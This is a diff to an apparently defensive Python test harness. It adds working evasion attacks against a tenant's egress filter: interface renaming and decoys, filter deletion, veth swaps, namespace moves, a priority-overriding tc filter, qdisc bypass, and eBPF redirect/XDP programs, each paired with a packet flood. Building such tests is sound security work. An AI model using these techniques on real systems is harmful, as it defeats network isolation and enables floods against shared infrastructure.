@@ -7,24 +7,38 @@
 from __future__ import annotations
 
 import contextlib
+import ctypes
 import itertools
 import multiprocessing
+import os
 import socket
 import struct
 import subprocess
 import sys
+import tempfile
 import time
 from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
 
 INTERFACE, TUNNEL = "eth0", "vxlan0"
+# What it calls the vif's interface, and a veth pair of its own.
+HIDDEN, PAIR = "other", ("mine0", "mine1")
+# The exit code if the kernel does not let it try.
+CANNOT = 77
+AROUND = """
+#include <linux/bpf.h>
+#include <bpf/bpf_helpers.h>
+SEC("xdp") int across(struct xdp_md *frame) { return bpf_redirect(TARGET, 0); }
+SEC("classifier") int to_peer(struct __sk_buff *skb) { return bpf_redirect_peer(TARGET, 0); }
+char LICENSE[] SEC("license") = "GPL";
+"""
 IPV4, VLAN, STACKED = 0x0800, 0x8100, 0x88A8
 UDP, TCP, GRE, IPIP = 17, 6, 47, 4
 SOL_PACKET, PACKET_VNET_HDR, PACKET_QDISC_BYPASS = 263, 15, 20
 # struct virtio_net_hdr: a TCP packet over IPv4 whose check sum is to be made.
 NEEDS_CHECKSUM, GSO_TCPV4 = 1, 1
 DELETE_FILTER, GET_FILTER, NEW_FILTER, DONE, DUMP, REQUEST = 45, 46, 44, 3, 0x300, 0x1
-EGRESS = 0xFFFFFFF3
+EGRESS, CLONE_NEWNET = 0xFFFFFFF3, 0x40000000
 LARGEST = 60_000
 
 
@@ -141,8 +155,8 @@ def full_frames(tenant: Tenant) -> Iterator[bytes]:
     return itertools.repeat(tenant.frame(tenant.datagram(bytes(1472))))
 
 
-def flood(tenant: Tenant, until: float, *options: int) -> None:
-    with packet_socket(*options) as out:
+def flood(tenant: Tenant, until: float, *options: int, interface: str = INTERFACE) -> None:
+    with packet_socket(*options, interface=interface) as out:
         send_all(out, full_frames(tenant), until)
 
 
@@ -212,6 +226,103 @@ def framing(tenant: Tenant, until: float) -> None:
         send_all(out, itertools.cycle(kinds), until)
 
 
+def at_once(*commands: str) -> None:
+    """Commands of `ip` in one process, too fast for the guard to look in between."""
+    subprocess.run(["ip", "-batch", "-"], input="\n".join(commands), text=True, check=True)
+
+
+def renaming(name: str, to: str) -> list[str]:
+    return [f"link set {name} down", f"link set {name} name {to}", f"link set {to} up"]
+
+
+def renamed(tenant: Tenant, until: float) -> None:
+    at_once(*renaming(INTERFACE, HIDDEN))
+    flood(tenant, until, interface=HIDDEN)
+    at_once(*renaming(HIDDEN, INTERFACE))
+
+
+def decoy(tenant: Tenant, until: float) -> None:
+    """Another interface with the name of the vif's, whose hook is then deleted."""
+    at_once(*renaming(INTERFACE, HIDDEN), f"link add {INTERFACE} type bridge", f"link set {INTERFACE} up")
+    tc("filter", "del", "dev", HIDDEN, "egress")
+    flood(tenant, until, interface=HIDDEN)
+    at_once(f"link del {INTERFACE}", *renaming(HIDDEN, INTERFACE))
+
+
+def own_pair() -> list[str]:
+    return [f"link add {PAIR[0]} type veth peer name {PAIR[1]}", *(f"link set {end} up" for end in PAIR)]
+
+
+def swapped(tenant: Tenant, until: float) -> None:
+    """The names of the vif's interface and of one of its own."""
+    names = (INTERFACE, HIDDEN), (PAIR[0], INTERFACE), (HIDDEN, PAIR[0])
+    at_once(*own_pair(), *(command for name, to in names for command in renaming(name, to)))
+    tc("filter", "del", "dev", PAIR[0], "egress")
+    flood(tenant, until, interface=PAIR[0])
+    at_once(f"link del {INTERFACE}", *renaming(PAIR[0], INTERFACE))
+
+
+def another_namespace(tenant: Tenant, until: float) -> None:
+    """There for half of the time, and back."""
+    command = ["unshare", "--net", "sh", "-c", "echo ready; exec sleep infinity"]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as holder:
+        if holder.stdout is None or holder.stdout.readline() != "ready\n":
+            raise RuntimeError("no namespace of its own")
+        at_once(f"link set {INTERFACE} netns {holder.pid}")
+        there = multiprocessing.Process(
+            target=in_namespace_of, args=(holder.pid, tenant, (time.monotonic() + until) / 2)
+        )
+        there.start()
+        there.join()
+        holder.kill()
+    at_once(f"link set {INTERFACE} up")
+    flood(tenant, until)
+
+
+def in_namespace_of(pid: int, tenant: Tenant, until: float) -> None:
+    home = os.getppid()
+    with Path(f"/proc/{pid}/ns/net").open() as namespace:
+        if ctypes.CDLL(None).setns(namespace.fileno(), CLONE_NEWNET):
+            raise RuntimeError("the namespace cannot be entered")
+    at_once(f"link set {INTERFACE} up")
+    flood(tenant, until)
+    at_once(f"link set {INTERFACE} netns {home}")
+
+
+def own_filter(tenant: Tenant, until: float) -> None:
+    """Ahead of the guard's."""
+    tc("filter", "replace", "dev", INTERFACE, "egress", "prio", "1", "handle", "1", "matchall", "action", "ok")
+    flood(tenant, until)
+    tc("filter", "del", "dev", INTERFACE, "egress", "prio", "1")
+
+
+def around(tenant: Tenant, until: float, *attach: str) -> None:
+    """From a veth pair of its own, whose other end hands each packet on by eBPF. attach: the command to attach it."""
+    at_once(*own_pair())
+    with tempfile.TemporaryDirectory() as folder:
+        source, built = Path(folder, "around.c"), Path(folder, "around.o")
+        source.write_text(AROUND.replace("TARGET", str(socket.if_nametoindex(INTERFACE))))
+        include = f"-I/usr/include/{os.uname().machine}-linux-gnu"
+        clang = ["clang", "-O2", "-g", "-target", "bpf", include, "-c", str(source), "-o", str(built)]
+        try:
+            subprocess.run(clang, check=True)
+            subprocess.run([word if word != "OBJECT" else str(built) for word in attach], check=True)
+        except (OSError, subprocess.CalledProcessError):
+            at_once(f"link del {PAIR[0]}")
+            sys.exit(CANNOT)
+    flood(tenant, until, interface=PAIR[0])
+    at_once(f"link del {PAIR[0]}")
+
+
+def redirect_peer(tenant: Tenant, until: float) -> None:
+    hook = f"tc qdisc add dev {PAIR[1]} clsact && tc filter add dev {PAIR[1]} ingress bpf da obj $0 sec classifier"
+    around(tenant, until, "sh", "-c", hook, "OBJECT")
+
+
+def xdp(tenant: Tenant, until: float) -> None:
+    around(tenant, until, "ip", "link", "set", PAIR[1], "xdpgeneric", "obj", "OBJECT", "sec", "xdp")
+
+
 ATTACKS: Mapping[str, Callable[[Tenant, float], None]] = {
     "forged answers": lambda tenant, until: with_flood(forge, tenant, until),
     "filter deletion": lambda tenant, until: with_flood(delete_filters, tenant, until),
@@ -220,6 +331,14 @@ ATTACKS: Mapping[str, Callable[[Tenant, float], None]] = {
     "segments in a tunnel": tunnel_segments,
     "fragments": fragments,
     "framing": framing,
+    "rename": renamed,
+    "decoy": decoy,
+    "swap": swapped,
+    "another namespace": another_namespace,
+    "own filter": own_filter,
+    "frames past queues": lambda tenant, until: flood(tenant, until, PACKET_QDISC_BYPASS),
+    "redirect to the peer": redirect_peer,
+    "XDP": xdp,
 }
 
 
